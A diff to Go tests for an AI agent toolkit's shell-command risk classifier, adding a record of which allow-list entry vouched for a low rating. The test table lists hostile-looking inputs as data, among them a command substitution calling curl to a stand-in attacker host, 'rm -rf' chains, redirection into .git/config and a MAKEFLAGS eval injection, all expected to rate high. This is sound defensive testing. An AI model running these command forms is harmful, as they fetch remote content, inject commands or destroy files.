@@ -410,7 +410,7 @@ func TestExecCommandAwkwardOutput(t *testing.T) {
 
 // riskOf rates args as a toolkit whose command classifier is classify
 // would.
-func riskOf(t *testing.T, classify tool.CommandClassifier, args string) tool.Risk {
+func riskOf(t *testing.T, classify tool.CommandClassifier, args string) tool.Rating {
 	t.Helper()
 	scope := tool.NewScope(map[string]tool.Factory{tool.CommandClassifierKey.ID: func(context.Context) (any, error) { return classify, nil }}, nil)
 	return newExecCommand().RiskOf(context.Background(), tool.NewContext("", "exec_command", nil, scope), json.RawMessage(args))
@@ -424,43 +424,44 @@ func TestExecCommandRisk(t *testing.T) {
 		classify tool.CommandClassifier
 		args     string
 		want     tool.Risk
+		by       string // what vouched for a low rating, when not the built-in list
 	}{
-		{"built-in: read-only compound line", builtin, `{"command":"git status && ls -la | head"}`, tool.RiskLow},
-		{"built-in: read-only argv", builtin, `{"argv":["rg","-n","TODO"]}`, tool.RiskLow},
-		{"built-in: rm", builtin, `{"command":"rm -rf build"}`, tool.RiskHigh},
-		{"built-in: redirection into a file", builtin, `{"command":"ls > out.txt"}`, tool.RiskHigh},
-		{"built-in: env that redirects git", builtin, `{"command":"git status","env":["GIT_DIR=/tmp/x"]}`, tool.RiskHigh},
-		{"built-in: env PATH", builtin, `{"command":"ls","env":["PATH=/tmp"]}`, tool.RiskHigh},
-		{"built-in: command and argv both", builtin, `{"command":"ls","argv":["ls"]}`, tool.RiskHigh},
-		{"built-in: syntax error", builtin, `{"command":"echo 'broken"}`, tool.RiskHigh},
-		{"built-in: make is not on it", builtin, `{"command":"make"}`, tool.RiskHigh},
-		{"no classifier: nothing is low", nil, `{"command":"ls"}`, tool.RiskHigh},
-		{"entry: make alone", withMake, `{"command":"make"}`, tool.RiskLow},
-		{"entry: make with arguments", withMake, `{"command":"make test -j4"}`, tool.RiskLow},
-		{"entry: argv make", withMake, `{"argv":["make","test"]}`, tool.RiskLow},
-		{"entry: the built-in list still holds", withMake, `{"command":"git status | head"}`, tool.RiskLow},
-		{"entry: then rm", withMake, `{"command":"make; rm -rf x"}`, tool.RiskHigh},
-		{"entry: and make again", withMake, `{"command":"make && make"}`, tool.RiskHigh},
-		{"entry: piped", withMake, `{"command":"make | head"}`, tool.RiskHigh},
-		{"entry: command substitution argument", withMake, `{"command":"make $(curl -s https://attacker.example)"}`, tool.RiskHigh},
-		{"entry: inside a command substitution", withMake, `{"command":"echo $(make)"}`, tool.RiskHigh},
-		{"entry: assignment prefix", withMake, `{"command":"FOO=1 make"}`, tool.RiskHigh},
-		{"entry: env field", withMake, `{"command":"make","env":["MAKEFLAGS=--eval=x"]}`, tool.RiskHigh},
-		{"entry: env field with argv", withMake, `{"argv":["make"],"env":["foo=1"]}`, tool.RiskHigh},
-		{"entry: redirected into .git/config", withMake, `{"command":"make > .git/config"}`, tool.RiskHigh},
-		{"entry: redirected to /dev/null", withMake, `{"command":"make >/dev/null"}`, tool.RiskHigh},
-		{"entry: command builtin", withMake, `{"command":"command make"}`, tool.RiskHigh},
-		{"entry: absolute path", withMake, `{"command":"/usr/bin/make"}`, tool.RiskHigh},
-		{"entry: absolute path argv", withMake, `{"argv":["/usr/bin/make"]}`, tool.RiskHigh},
-		{"entry: through env", withMake, `{"command":"env make"}`, tool.RiskHigh},
-		{"entry: workspace program", withMake, `{"command":"./make"}`, tool.RiskHigh},
-		{"entry: workspace program argv", withMake, `{"argv":["./make"]}`, tool.RiskHigh},
-		{"entry: in the background", withMake, `{"command":"make &"}`, tool.RiskHigh},
+		{"built-in: read-only compound line", builtin, `{"command":"git status && ls -la | head"}`, tool.RiskLow, ""},
+		{"built-in: read-only argv", builtin, `{"argv":["rg","-n","TODO"]}`, tool.RiskLow, ""},
+		{"built-in: rm", builtin, `{"command":"rm -rf build"}`, tool.RiskHigh, ""},
+		{"built-in: redirection into a file", builtin, `{"command":"ls > out.txt"}`, tool.RiskHigh, ""},
+		{"built-in: env that redirects git", builtin, `{"command":"git status","env":["GIT_DIR=/tmp/x"]}`, tool.RiskHigh, ""},
+		{"built-in: env PATH", builtin, `{"command":"ls","env":["PATH=/tmp"]}`, tool.RiskHigh, ""},
+		{"built-in: command and argv both", builtin, `{"command":"ls","argv":["ls"]}`, tool.RiskHigh, ""},
+		{"built-in: syntax error", builtin, `{"command":"echo 'broken"}`, tool.RiskHigh, ""},
+		{"built-in: make is not on it", builtin, `{"command":"make"}`, tool.RiskHigh, ""},
+		{"no classifier: nothing is low", nil, `{"command":"ls"}`, tool.RiskHigh, ""},
+		{"entry: make alone", withMake, `{"command":"make"}`, tool.RiskLow, `low_risk_commands entry "make"`},
+		{"entry: make with arguments", withMake, `{"command":"make test -j4"}`, tool.RiskLow, `low_risk_commands entry "make"`},
+		{"entry: argv make", withMake, `{"argv":["make","test"]}`, tool.RiskLow, `low_risk_commands entry "make"`},
+		{"entry: the built-in list still holds", withMake, `{"command":"git status | head"}`, tool.RiskLow, ""},
+		{"entry: then rm", withMake, `{"command":"make; rm -rf x"}`, tool.RiskHigh, ""},
+		{"entry: and make again", withMake, `{"command":"make && make"}`, tool.RiskHigh, ""},
+		{"entry: piped", withMake, `{"command":"make | head"}`, tool.RiskHigh, ""},
+		{"entry: command substitution argument", withMake, `{"command":"make $(curl -s https://attacker.example)"}`, tool.RiskHigh, ""},
+		{"entry: inside a command substitution", withMake, `{"command":"echo $(make)"}`, tool.RiskHigh, ""},
+		{"entry: assignment prefix", withMake, `{"command":"FOO=1 make"}`, tool.RiskHigh, ""},
+		{"entry: env field", withMake, `{"command":"make","env":["MAKEFLAGS=--eval=x"]}`, tool.RiskHigh, ""},
+		{"entry: env field with argv", withMake, `{"argv":["make"],"env":["foo=1"]}`, tool.RiskHigh, ""},
+		{"entry: redirected into .git/config", withMake, `{"command":"make > .git/config"}`, tool.RiskHigh, ""},
+		{"entry: redirected to /dev/null", withMake, `{"command":"make >/dev/null"}`, tool.RiskHigh, ""},
+		{"entry: command builtin", withMake, `{"command":"command make"}`, tool.RiskHigh, ""},
+		{"entry: absolute path", withMake, `{"command":"/usr/bin/make"}`, tool.RiskHigh, ""},
+		{"entry: absolute path argv", withMake, `{"argv":["/usr/bin/make"]}`, tool.RiskHigh, ""},
+		{"entry: through env", withMake, `{"command":"env make"}`, tool.RiskHigh, ""},
+		{"entry: workspace program", withMake, `{"command":"./make"}`, tool.RiskHigh, ""},
+		{"entry: workspace program argv", withMake, `{"argv":["./make"]}`, tool.RiskHigh, ""},
+		{"entry: in the background", withMake, `{"command":"make &"}`, tool.RiskHigh, ""},
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
-			if got := riskOf(t, tt.classify, tt.args); got != tt.want {
-				t.Errorf("risk of %s = %s, want %s", tt.args, got, tt.want)
+			if got := riskOf(t, tt.classify, tt.args); got != (tool.Rating{Risk: tt.want, By: tt.by}) {
+				t.Errorf("rating of %s = %+v, want %s by %q", tt.args, got, tt.want, tt.by)
 			}
 		})
 	}
